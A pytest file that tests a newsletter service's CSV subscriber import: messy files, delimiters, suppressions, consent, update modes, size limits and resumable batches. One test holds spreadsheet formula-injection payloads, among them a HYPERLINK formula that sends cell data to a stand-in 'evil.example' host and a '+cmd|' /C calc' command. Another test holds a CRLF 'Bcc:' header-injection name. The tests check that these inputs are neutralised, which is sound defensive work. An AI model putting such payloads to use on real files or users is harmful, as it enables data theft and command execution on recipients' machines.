"""CSV imports: messy files, exact report counts, refusals, atomic resumable batches."""
import csv
import io
import re
from pathlib import Path

import pytest
from email_validator import EmailNotValidError, validate_email
from sqlalchemy import func, select, text

from newsletter.extensions import db
from newsletter.models import (
    ConsentRecord,
    ImportStatus,
    Subscriber,
    SubscriberStatus,
    Subscription,
    SubscriptionStatus,
    SuppressionReason,
)
from newsletter.services import addresses
from newsletter.services.audience import import_writer, imports, lists, suppressions
from newsletter.services.errors import ValidationError


@pytest.fixture
def ctx(app):
    with app.app_context():
        yield


def run_csv(content: bytes | str, batch_size: int = 1000, **options):
    data = content.encode() if isinstance(content, str) else content
    job = imports.start(io.BytesIO(data), "people.csv", **options)
    return imports.run(job.id, batch_size=batch_size)


def report(job) -> dict:
    return {k: getattr(job, k) for k in ("rows", "created", "updated", "unchanged", "suppressed", "invalid",
                                         "duplicates", "not_found")}


def subscriber(email: str) -> Subscriber:
    return db.session.scalar(select(Subscriber).where(Subscriber.email == email))


def test_messy_csv_with_bom_semicolons_quotes_newlines_and_duplicates(ctx):
    content = ("\ufeffEmail;Name;City;Notes\r\n"
               "Ana@Example.com;Ana Müller;Köln;\"first line\nsecond; line\"\r\n"
               "bob@example.com;Bob;;\r\n"
               "not-an-email;X;Y;Z\r\n"
               "ANA@example.COM;Ana again;Bonn;dup\r\n"
               ";no email;;\r\n"
               "\r\n"
               "chloé@exämple.com;Chloé;Paris;idn\r\n")
    job = run_csv(content)
    assert job.status == ImportStatus.DONE and job.delimiter == ";"
    assert report(job) == {"rows": 6, "created": 3, "updated": 0, "unchanged": 0, "suppressed": 0,
                           "invalid": 2, "duplicates": 1, "not_found": 0}
    ana = subscriber("ana@example.com")
    assert ana.name == "Ana Müller" and ana.status == SubscriberStatus.CONFIRMED
    assert ana.attributes == {"City": "Köln", "Notes": "first line\nsecond; line"}
    assert subscriber("bob@example.com").attributes == {}  # empty cells set nothing
    assert subscriber("chloé@exämple.com").name == "Chloé"
    assert [(e["row"], e["email"]) for e in job.errors] == [(4, "not-an-email"), (6, "")]
    lines = imports.invalid_report_path(job).read_text().splitlines()
    assert lines[0] == "row,email,reason" and lines[1].startswith("4,not-an-email,") and len(lines) == 3


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_comma_and_tab_delimiters(ctx, delimiter):
    job = run_csv(f"name{delimiter}email\nA{delimiter}a@example.com\nB{delimiter}b@example.com\n")
    assert job.delimiter == delimiter and job.created == 2
    assert subscriber("b@example.com").name == "B"


def test_suppressed_addresses_stay_out(ctx):
    suppressions.suppress("gone@example.com", SuppressionReason.UNSUBSCRIBED_ALL)
    db.session.commit()
    job = run_csv("email\ngone@example.com\nGONE@example.com\nnew@example.com\n")
    assert report(job) | {} == {"rows": 3, "created": 1, "updated": 0, "unchanged": 0, "suppressed": 1,
                                "invalid": 0, "duplicates": 1, "not_found": 0}
    assert subscriber("gone@example.com") is None


def test_lists_memberships_and_consent(ctx):
    news = lists.create("News", "single")
    job = run_csv("email\na@example.com\nb@example.com\n", list_ids=[news.id])
    assert job.created == 2
    statuses = db.session.scalars(select(Subscription.status).where(Subscription.list_id == news.id)).all()
    assert statuses == [SubscriptionStatus.CONFIRMED] * 2
    assert db.session.scalar(select(func.count()).select_from(ConsentRecord)) == 2
    # Someone who left the list is not put back by a later import.
    a = subscriber("a@example.com")
    db.session.execute(Subscription.__table__.update().where(Subscription.subscriber_id == a.id)
                       .values(status=SubscriptionStatus.UNSUBSCRIBED.value))
    db.session.commit()
    again = run_csv("email\na@example.com\n", list_ids=[news.id])
    assert report(again)["unchanged"] == 1
    assert db.session.get(Subscription, (a.id, news.id)).status == SubscriptionStatus.UNSUBSCRIBED


def test_update_mode_merge_and_overwrite(ctx):
    run_csv("email,name,plan,city\nx@example.com,X,free,Oslo\n")
    job = run_csv("email,plan\nx@example.com,pro\nunknown@example.com,pro\n", mode="update")
    assert report(job) == {"rows": 2, "created": 0, "updated": 1, "unchanged": 0, "suppressed": 0,
                           "invalid": 0, "duplicates": 0, "not_found": 1}
    db.session.expire_all()
    assert subscriber("x@example.com").attributes == {"plan": "pro", "city": "Oslo"}  # merged
    assert subscriber("unknown@example.com") is None
    job = run_csv("email,plan\nx@example.com,team\n", mode="update", overwrite_attributes=True)
    db.session.expire_all()
    assert job.updated == 1 and subscriber("x@example.com").attributes == {"plan": "team"}
    assert subscriber("x@example.com").name == "X"  # no name column: the name stays
    assert run_csv("email,plan\nx@example.com,team\n", mode="update").unchanged == 1


def test_optin_mode_adds_unconfirmed_and_reports_memberships(ctx):
    weekly = lists.create("Weekly", "double")
    job = imports.start(io.BytesIO(b"email\nq@example.com\n"), "q.csv", list_ids=[weekly.id], mode="optin")
    seen = []
    imports.run(job.id, on_batch=seen.extend)
    q = subscriber("q@example.com")
    assert q.status == SubscriberStatus.UNCONFIRMED
    assert seen == [(q.id, weekly.id)]


@pytest.mark.parametrize("content, message", [
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not a CSV file"),
    (b"name,phone\nAna,123\n", "one must be 'email'"),
    (b"email,name\nana@example.com,Ana \xff\xfe\n", "not UTF-8"),
    (b"", "empty"),
    (b"email,Email\na@example.com,b\n", "appears twice"),
])
def test_unusable_files_are_refused_before_anything_is_written(ctx, app, content, message):
    folder = Path(app.config["INSTANCE_PATH"]) / "imports"
    before = set(folder.glob("*")) if folder.exists() else set()
    with pytest.raises(ValidationError, match=message) as excinfo:
        imports.start(io.BytesIO(content), "bad.csv")
    assert excinfo.value.field == "file"
    assert imports.recent() == []
    assert set(folder.glob("*")) == before
    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 0


def test_bad_byte_deep_in_the_file_fails_the_job_with_nothing_written(ctx):
    content = b"email\n" + b"".join(b"u%d@example.com\n" % i for i in range(20000)) + b"late@example.com \xff\n"
    job = run_csv(content)
    assert job.status == ImportStatus.FAILED and "not UTF-8" in job.failure
    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 0


def test_unknown_list_and_mode_name_their_field(ctx):
    with pytest.raises(ValidationError) as excinfo:
        imports.start(io.BytesIO(b"email\na@example.com\n"), "a.csv", list_ids=[999])
    assert excinfo.value.field == "list_ids"
    with pytest.raises(ValidationError) as excinfo:
        imports.start(io.BytesIO(b"email\na@example.com\n"), "a.csv", mode="sideways")
    assert excinfo.value.field == "mode"


def test_a_batch_that_fails_halfway_leaves_nothing_and_the_job_resumes(ctx, monkeypatch):
    content = "email,name\n" + "".join(f"p{i}@example.com,P{i}\n" for i in range(250))
    job = imports.start(io.BytesIO(content.encode()), "p.csv")
    real_apply, calls = import_writer.apply, []

    def crash_on_third_batch(connection, rows, **kwargs):
        calls.append(len(rows))
        result = real_apply(connection, rows, **kwargs)  # the rows are written...
        if len(calls) == 3:
            raise RuntimeError("worker died")            # ...and the batch never commits
        return result

    monkeypatch.setattr(import_writer, "apply", crash_on_third_batch)
    with pytest.raises(RuntimeError):
        imports.run(job.id, batch_size=100)
    db.session.rollback()
    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 200  # two whole batches
    assert imports.get(job.id).rows == 200 and imports.get(job.id).created == 200

    monkeypatch.setattr(import_writer, "apply", real_apply)
    done = imports.run(job.id, batch_size=100)
    assert done.status == ImportStatus.DONE
    assert report(done) == {"rows": 250, "created": 250, "updated": 0, "unchanged": 0, "suppressed": 0,
                            "invalid": 0, "duplicates": 0, "not_found": 0}
    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 250
    assert done.progress == 1.0
    assert not Path(done.path).exists()  # the upload (personal data) goes once applied


def test_names_and_attributes_keep_backslashes_tabs_and_line_breaks(ctx):
    """Each row travels to PostgreSQL as COPY text; what needs escaping there comes back intact
    (names hold no tab or line break: the one-line rule refuses them, see the test below)."""
    name = 'Back\\slash, \\t \\N "q"'
    content = ('email,name,note\n'
               f'"esc@example.com","{name.replace(chr(34), chr(34) * 2)}","a\\tb\ttab\r\nc \\ ü 🙂"\n')
    job = run_csv(content)
    assert job.created == 1
    stored = subscriber("esc@example.com")
    assert stored.name == name and stored.attributes == {"note": "a\\tb\ttab\r\nc \\ ü 🙂"}


def test_a_big_import_refreshes_the_planner_statistics(ctx, monkeypatch):
    if db.engine.dialect.name != "postgresql":
        pytest.skip("planner statistics are PostgreSQL's (run with DATABASE_URL=postgresql://...)")
    monkeypatch.setattr(imports, "ANALYZE_AFTER", 7)
    run_csv("email\n" + "".join(f"s{i}@example.com\n" for i in range(6)))
    reltuples = text("SELECT reltuples FROM pg_class WHERE relname = 'subscribers'")
    stale = db.session.scalar(reltuples)
    run_csv("email\n" + "".join(f"t{i}@example.com\n" for i in range(7)))
    fresh = db.session.scalar(reltuples)
    assert stale != 13 and fresh == 13  # ANALYZE counted every row, after the second import only


# Letters outside ASCII that match [a-z] under a Unicode IGNORECASE (long s, Kelvin sign, dotted
# and dotless i): the import's address fast path must leave them to email-validator, whose IDNA
# step maps some of them ("a@ſ.com" is "a@s.com").
CASE_FOLDING = [chr(c) for c in range(128, 0x10000) if re.fullmatch("[a-z]", chr(c), re.IGNORECASE)]


def test_address_fast_path_takes_ascii_only():
    assert {"\u017f", "\u212a", "\u0130", "\u0131"} <= set(CASE_FOLDING)
    for char in CASE_FOLDING:
        for raw in (f"{char}@example.com", f"a@{char}x.com", f"a@example.c{char}", f"a{char}b@x.io"):
            assert addresses._fast(raw) is None, raw
            try:
                expected = validate_email(raw, check_deliverability=False).normalized.lower()
            except EmailNotValidError:
                expected = None
            if expected is not None:
                assert addresses.normalize_email(raw) == expected, raw


def test_the_invalid_rows_report_defuses_formulas(ctx):
    """The report opens in a spreadsheet and its cells are whatever the upload held."""
    content = ('email,name\n'
               '"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",A\n'
               "+cmd|' /C calc'!A0,B\n"
               "\uff20SUM(1+1),C\n"
               "ok@example.com,D\n")
    job = run_csv(content)
    assert job.invalid == 3 and job.created == 1
    rows = list(csv.reader(io.StringIO(imports.invalid_report_path(job).read_text(encoding="utf-8"))))
    assert [r[1] for r in rows[1:]] == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
                                       "'+cmd|' /C calc'!A0", "'\uff20SUM(1+1)"]
    assert all(cell[:1] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" for row in rows for cell in row)
    assert job.errors[0]["email"].startswith("=HYPERLINK")  # the page shows it as it was (escaped HTML)


def test_attributes_past_the_api_limits_are_invalid_rows_and_the_rest_goes_on(ctx):
    many = [f"k{i}" for i in range(5000)]
    content = ("email,name,note," + ",".join(many) + "\n"
               f"big@example.com,Big,{'x' * 20_000}" + "," * len(many) + "\n"
               "wide@example.com,Wide,," + ",".join("v" for _ in many) + "\n"
               f"{'long' * 20_000}@example.com,Long,\n"
               "fine@example.com,Fine,small," + ",".join("v" if i < 3 else "" for i in range(len(many))) + "\n"
               "big@example.com,Big again,small\n")
    job = run_csv(content)
    assert job.status == ImportStatus.DONE
    assert (job.rows, job.created, job.invalid) == (5, 2, 3)
    assert subscriber("fine@example.com").attributes == {"note": "small", "k0": "v", "k1": "v", "k2": "v"}
    assert subscriber("big@example.com").attributes == {"note": "small"}  # its bad row did not claim the address
    reasons = {e["row"]: e["reason"] for e in job.errors}
    assert "at most 10,000 characters of JSON" in reasons[2] and "at most 10,000 characters of JSON" in reasons[3]
    assert len(job.errors[2]["email"]) <= 255  # an 80 kB cell is cut in the report, not stored whole


def test_merged_attributes_past_the_limit_are_an_invalid_row(ctx):
    from newsletter.services.audience import subscribers
    subscribers.create("full@example.com", attributes={"bio": "b" * 9000})
    job = run_csv(f"email,extra\nfull@example.com,{'e' * 2000}\nother@example.com,{'e' * 2000}\n")
    assert (job.invalid, job.created, job.updated) == (1, 1, 0)
    assert job.errors[0]["row"] == 2 and "already stored" in job.errors[0]["reason"]
    assert subscriber("full@example.com").attributes == {"bio": "b" * 9000}


def test_a_column_name_longer_than_the_api_allows_refuses_the_file(ctx):
    with pytest.raises(ValidationError, match="at most 100 characters") as excinfo:
        imports.start(io.BytesIO(f"email,{'k' * 300_000}\na@example.com,1\n".encode()), "keys.csv")
    assert excinfo.value.field == "file" and len(excinfo.value.message) < 300
    assert imports.recent() == []


@pytest.mark.parametrize("poison, message", [
    ('"' + "x" * (2 * 1024 * 1024) + '"', "Row 12,002 cannot be read: a field is longer than 1,048,576 characters"),
    ("nul\x00@example.com", "contains binary data (a NUL byte"),
])
def test_a_structural_failure_deep_in_the_file_writes_nothing(ctx, poison, message):
    content = "email\n" + "".join(f"u{i}@example.com\n" for i in range(12_000)) + poison + "\nlast@example.com\n"
    job = run_csv(content, batch_size=10_000)
    assert job.status == ImportStatus.FAILED
    assert job.failure.startswith("Nothing was imported. ") and message in job.failure
    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 0


def test_a_job_that_stops_halfway_says_what_was_applied_and_where_it_stopped(ctx, monkeypatch):
    from newsletter.tasks.imports import run_import
    content = "email\n" + "".join(f"p{i}@example.com\n" for i in range(imports.BATCH_SIZE + 50))
    job = imports.start(io.BytesIO(content.encode()), "p.csv")
    real_apply, calls = import_writer.apply, []

    def crash_on_second_batch(connection, rows, **kwargs):
        calls.append(len(rows))
        if len(calls) == 2:
            raise KeyError("internal detail that must not reach the page")
        return real_apply(connection, rows, **kwargs)

    monkeypatch.setattr(import_writer, "apply", crash_on_second_batch)
    run_import.apply(args=[job.id])  # in this process: the task's own error handling, no retry
    db.session.rollback()
    failed = imports.get(job.id)
    assert failed.status == ImportStatus.FAILED and "internal detail" not in failed.failure
    assert "KeyError" not in failed.failure
    assert failed.failure.startswith("Partially imported: the first 10,000 rows were applied (10,000 new, "
                                     "0 updated, 0 invalid), stopped at row 10,002. An internal error stopped it")
    assert db.session.scalar(select(func.count()).select_from(Subscriber)) == 10_000


def test_names_the_api_would_refuse_are_invalid_rows(ctx):
    """The API's name rule (no control characters, at most 200 characters) holds for imports too."""
    content = ("email,name\n"
               "ctl@example.com,\"Eve\r\nBcc: x@example.org\"\n"
               "esc@example.com,Eve\x1b[31m\n"
               f"long@example.com,{'n' * 201}\n"
               "ok@example.com,Ève d’Arc\n")
    job = run_csv(content)
    assert (job.rows, job.created, job.invalid) == (4, 1, 3)
    assert subscriber("ok@example.com").name == "Ève d’Arc"
    reasons = [e["reason"] for e in job.errors]
    assert "Line breaks are not allowed" in reasons[0] and "Control characters are not allowed" in reasons[1]
    assert "at most 200 characters" in reasons[2]
